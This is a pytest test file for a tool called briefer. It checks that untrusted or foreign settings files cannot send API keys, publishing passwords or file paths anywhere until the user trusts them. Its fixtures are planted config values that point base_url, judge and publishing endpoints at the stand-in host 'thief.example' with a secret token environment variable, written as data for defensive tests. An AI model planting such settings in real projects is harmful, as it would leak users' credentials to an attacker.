"""What a settings file that somebody else may have put there cannot do of itself."""

import os

import pytest

from briefer.compose import make_engine, open_store
from briefer.config import resolve, trust
from briefer.errors import SettingError

THEFT = 'base_url = "https://thief.example/v1?api_key=abc"\napi_key_env = "BANK_TOKEN"\n'
SECOND = 'judge_base_url = "https://thief.example/v1"\njudge_api_key_env = "BANK_TOKEN"\n'
ENVIRON = {"BANK_TOKEN": "a-secret-of-mine", "OPENAI_API_KEY": "another-secret", "HOME": "/h"}
WRITER = {"model": "openai:m"}


@pytest.fixture(autouse=True)
def _own_folder(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))


@pytest.fixture
def below(tmp_path):
    folder = tmp_path / "shared" / "mine"
    folder.mkdir(parents=True)
    return folder


def resolved(folder, environ=ENVIRON, **flags):
    return resolve(flags, environ=environ, cwd=folder)


@pytest.mark.parametrize(
    ("text", "flags", "says"),
    [
        (THEFT, WRITER, "the key in $BANK_TOKEN goes to https://thief.example/v1?api_key=[secret]"),
        ('base_url = "https://thief.example/v1"\n', WRITER, "$OPENAI_API_KEY goes to"),
        ('api_key_env = "BANK_TOKEN"\n', WRITER, "$BANK_TOKEN goes to api.openai.com"),
        (SECOND, WRITER, "$BANK_TOKEN goes to https://thief.example"),
        ('judge_api_key_env = "BANK_TOKEN"\njudge_model = "openai:j"', WRITER, "$BANK_TOKEN"),
    ],
)
def test_a_file_further_up_cannot_say_which_key_goes_where_until_it_is_trusted(
    below, text, flags, says
):
    file = below.parent / "briefer.toml"
    file.write_text(text)
    found = resolved(below, **flags)
    assert found.settings.api_key is None
    assert found.settings.judge_api_key is None
    with pytest.raises(SettingError) as failed:
        make_engine(found)
    assert says in str(failed.value)
    assert "secret-of-mine" not in str(failed.value)
    assert "config trust" in failed.value.hint
    alone = resolved(below, model="extractive", judge="off")
    assert make_engine(alone).cached is None, "it sends no key"
    trust(found.untrusted)
    again = resolved(below, **flags)
    assert again.untrusted is None
    assert (again.settings.judge_api_key or again.settings.api_key) in ENVIRON.values()
    make_engine(again)
    file.write_text(text.replace("thief.example", "other.example").replace("BANK", "SAFE"))
    changed = {**ENVIRON, "SAFE_TOKEN": "a-third"}
    assert resolved(below, changed, **flags).untrusted, "what it says now was not trusted"


def test_a_file_of_ones_own_in_this_folder_one_that_is_named_and_a_flag_are_believed(below):
    file = below.parent / "briefer.toml"
    file.write_text(THEFT)
    assert resolved(below.parent, **WRITER).settings.api_key == "a-secret-of-mine"
    named = {**ENVIRON, "BRIEFER_CONFIG": str(file)}
    assert resolved(below, named, **WRITER).settings.api_key == "a-secret-of-mine"
    file.write_text('base_url = "https://thief.example/v1"\ntitle = "Ours"\n')
    found = resolved(below, base_url="https://mine.example/v1", **WRITER)
    assert found.settings.api_key == "another-secret"
    assert resolved(below, {"HOME": "/h"}, **WRITER).untrusted is None, "there is no key to send"


def test_a_file_in_a_repository_may_be_anybodys_until_it_is_trusted_or_named(below):
    file = below / "briefer.toml"
    file.write_text(THEFT)
    assert resolved(below, **WRITER).untrusted is None
    (below.parent / ".git").write_text("gitdir: elsewhere")
    found = resolved(below, **WRITER)
    assert found.settings.api_key is None
    with pytest.raises(SettingError, match="may be somebody else's, and is not trusted with this"):
        make_engine(found)
    named = {**ENVIRON, "BRIEFER_CONFIG": str(file)}
    assert resolved(below, named, **WRITER).settings.api_key == "a-secret-of-mine"
    trust(found.untrusted)
    assert resolved(below, **WRITER).settings.api_key == "a-secret-of-mine"
    file.write_text('title = "Ours"\nmodel = "openai:m"\n')
    assert resolved(below).settings.api_key == "another-secret", "it names no endpoint"


def others(file):
    if os.geteuid() == 0:
        os.chown(file, 12345, 12345)
    else:
        file.chmod(0o666)


@pytest.mark.parametrize("make_foreign", [others, lambda file: file.chmod(0o646)])
@pytest.mark.parametrize(
    "text",
    [
        'base_url = "https://thief.example/v1"',
        'judge_base_url = "https://thief.example/v1"',
        'store = "/h/notes.txt"',
        'sources = ["/h/private"]',
        'output = "/h"',
        'prompts = "p"',
        'record = "/h"',
        'replay = "/h"',
        "allow_private = true",
    ],
)
def test_a_strangers_file_says_nothing_of_where_texts_go_what_is_read_and_what_is_written(
    tmp_path, text, make_foreign
):
    file = tmp_path / "briefer.toml"
    file.write_text(text + '\ntitle = "Ours"\n')
    make_foreign(file)
    found = resolved(tmp_path, {"HOME": "/h"})
    for use in (make_engine, lambda each: open_store(each, print)):
        with pytest.raises(SettingError, match="is not yours, and is not trusted with this"):
            use(found)
    trust(found.untrusted)
    assert resolved(tmp_path, {"HOME": "/h"}).untrusted is None


def test_a_strangers_file_may_say_what_harms_nobody(tmp_path):
    file = tmp_path / "briefer.toml"
    file.write_text('title = "Ours"\nlanguage = "de"\n')
    others(file)
    assert resolved(tmp_path).untrusted is None


@pytest.mark.parametrize("broken", ["", "[", "[1]", '{"a": 1}', "[" * 100_000])
def test_a_broken_list_of_what_is_trusted_trusts_nothing(below, tmp_path, broken):
    (below.parent / "briefer.toml").write_text(THEFT)
    (tmp_path / "config" / "briefer").mkdir(parents=True)
    (tmp_path / "config" / "briefer" / "trusted.json").write_text(broken)
    assert resolved(below, **WRITER).untrusted is not None


PUBLISHING = {
    "wordpress": ('url = "https://thief.example/"', "password"),
    "mail": ('host = "thief.example"', "password"),
    "webhook": ('urls = ["https://thief.example/"]', "secret"),
}


@pytest.mark.parametrize("target", PUBLISHING)
def test_where_briefs_are_published_with_which_secret_is_trusted_the_same_way(below, target):
    where, secret = PUBLISHING[target]
    text = f'[publish.{target}]\n{where}\n{secret}_env = "BANK_TOKEN"\n'
    (below.parent / "briefer.toml").write_text(text)
    found = resolved(below)
    assert not getattr(found.settings, f"publish_{target}_{secret}")
    with pytest.raises(SettingError, match=r"\$BANK_TOKEN goes to .*thief\.example"):
        found.demand_trust(keys=True)
    trust(found.untrusted)
    again = resolved(below)
    assert getattr(again.settings, f"publish_{target}_{secret}") == "a-secret-of-mine"
    assert resolved(below.parent).untrusted is None
